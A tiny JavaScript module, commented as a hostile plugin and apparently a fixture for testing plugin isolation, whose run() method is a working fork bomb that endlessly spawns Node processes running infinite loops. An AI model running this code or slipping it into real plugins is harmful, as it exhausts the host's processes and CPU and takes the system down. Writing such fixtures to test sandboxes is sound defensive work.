// Hostile plugin: A fork bomb through child_process.
module.exports = {
  run() {
    const { spawn } = require('child_process');
    for (;;) spawn(process.execPath, ['-e', 'for(;;){}']);
  },
};
